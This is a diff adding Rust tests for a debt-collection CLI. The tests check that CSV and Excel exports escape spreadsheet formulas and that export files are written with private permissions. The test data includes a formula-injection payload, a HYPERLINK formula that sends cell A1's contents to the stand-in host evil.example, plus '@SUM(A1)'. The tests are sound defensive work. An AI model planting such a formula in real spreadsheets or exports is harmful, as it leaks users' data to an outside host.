@@ -283,3 +283,151 @@ async fn a_hostile_message_never_reaches_the_terminal_raw() {
     assert!(String::from_utf8_lossy(&o.stderr).contains("evil"), "{o:?}");
     assert_clean("termin's stderr", &o.stderr);
 }
+
+const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
+
+/// A task list and a termin page whose names are formulas.
+async fn formula_server() -> String {
+    let app = Router::new()
+        .route(
+            "/api/DailyTask_DeskColl",
+            any(|| async {
+                let body = serde_json::json!({"data": [{
+                    "contract_no": "000318270200055", "name": FORMULA, "branch_name": "-2+3",
+                    "total_amount": "-1500", "overdue": "5", "phone1": "0812"
+                }]});
+                (
+                    [(header::CONTENT_TYPE, "application/json")],
+                    body.to_string(),
+                )
+            }),
+        )
+        .route(
+            "/api/v1/bumn/transactions/termin",
+            any(|| async {
+                let body = serde_json::json!({
+                    "status": "success", "message": "ok",
+                    "data": {"transaction-termin": [{
+                        "general": {"purchase_order_number": "PO-1", "buyer_name": "@SUM(A1)"},
+                        "vendor": {"name": FORMULA},
+                        "payment": {"bill_amount": 257005026}
+                    }]},
+                    "meta": {"page": 1, "total_page": 1, "total_data": 1}
+                });
+                (
+                    [(header::CONTENT_TYPE, "application/json")],
+                    body.to_string(),
+                )
+            }),
+        );
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = listener.local_addr().unwrap();
+    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
+    format!("http://{addr}")
+}
+
+/// The records of a CSV as a spreadsheet would split them (`;` and a BOM for `excel`).
+fn read_csv(bytes: &[u8], excel: bool) -> Vec<csv::StringRecord> {
+    let bytes = if excel {
+        bytes.strip_prefix(b"\xEF\xBB\xBF").expect("a UTF-8 BOM")
+    } else {
+        assert!(!bytes.starts_with(b"\xEF\xBB\xBF"));
+        bytes
+    };
+    csv::ReaderBuilder::new()
+        .delimiter(if excel { b';' } else { b',' })
+        .from_reader(bytes)
+        .records()
+        .map(Result::unwrap)
+        .collect()
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn csv_exports_never_carry_a_formula() {
+    let base = formula_server().await;
+    let home = tempfile::tempdir().unwrap();
+    let termin_url = format!("{base}/api/v1/bumn/transactions/termin");
+    for excel in [false, true] {
+        let mut args = vec!["--base-url", &base, "tasks", "--format", "csv"];
+        if excel {
+            args.push("--excel");
+        }
+        let o = output(deskcoll(home.path(), &args)).await;
+        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+        let rows = read_csv(&o.stdout, excel);
+        assert_eq!(rows[0].get(1), Some(&*format!("'{FORMULA}")));
+        assert_eq!(rows[0].get(3), Some("-1500"), "money stays a number");
+        assert_eq!(rows[0].get(10), Some("'-2+3"));
+
+        let mut args = vec!["--termin-url", &termin_url, "termin", "--format", "csv"];
+        if excel {
+            args.push("--excel");
+        }
+        let o = output(deskcoll(home.path(), &args)).await;
+        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+        let rows = read_csv(&o.stdout, excel);
+        assert!(rows[0].get(5).unwrap().starts_with("'=HYPERLINK("));
+        assert_eq!(rows[0].get(4), Some("'@SUM(A1)"));
+        assert_eq!(rows[0].get(12), Some("257005026"));
+    }
+    let o = output(deskcoll(home.path(), &["today", "--excel"])).await;
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    assert_eq!(read_csv(&o.stdout, true)[0].get(0), Some("calls"));
+    let o = output(deskcoll(
+        home.path(),
+        &["tasks", "--excel", "--format", "json"],
+    ))
+    .await;
+    assert_eq!(o.status.code(), Some(2));
+}
+
+#[tokio::test]
+async fn the_workstations_export_is_escaped_and_private() {
+    use std::os::unix::fs::PermissionsExt;
+    let t = common::twin().await;
+    let client = common::client_for(&t);
+    let mut rows = client
+        .termin_page(1, 3)
+        .await
+        .unwrap()
+        .data
+        .unwrap()
+        .transactions;
+    rows[0].vendor.name = FORMULA.into();
+    let dir = tempfile::tempdir().unwrap();
+    let outbox = deskcoll::store::Outbox::open(&dir.path().join("o.sqlite3")).unwrap();
+    let rt = deskcoll::tui::Runtime::quiet(deskcoll::delivery::Deliverer::new(
+        Arc::new(std::sync::Mutex::new(outbox)),
+        client,
+        deskcoll::clock::Clock::at(common::fixed_now()),
+    ));
+    let path = dir.path().join("export.csv");
+    let (tx, _rx) = tokio::sync::mpsc::unbounded_channel();
+    let actions = deskcoll::tui::execute(
+        deskcoll::tui::message::Effect::ExportTermin {
+            path: path.display().to_string(),
+            rows: rows.clone(),
+        },
+        &rt,
+        &tx,
+    )
+    .await;
+    assert!(
+        matches!(&actions[0], deskcoll::tui::message::Action::Exported(Ok(e)) if e.rows == 3),
+        "{actions:?}"
+    );
+    let read = read_csv(&std::fs::read(&path).unwrap(), false);
+    assert_eq!(read[0].get(5), Some(&*format!("'{FORMULA}")));
+    let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
+    assert_eq!(mode, 0o600);
+
+    let excel = dir.path().join("excel.csv");
+    deskcoll::files::export_termin_csv(
+        &excel,
+        &rows,
+        deskcoll::domain::text::CsvStyle { excel: true },
+    )
+    .unwrap();
+    let read = read_csv(&std::fs::read(&excel).unwrap(), true);
+    assert_eq!(read[0].get(5), Some(&*format!("'{FORMULA}")));
+}
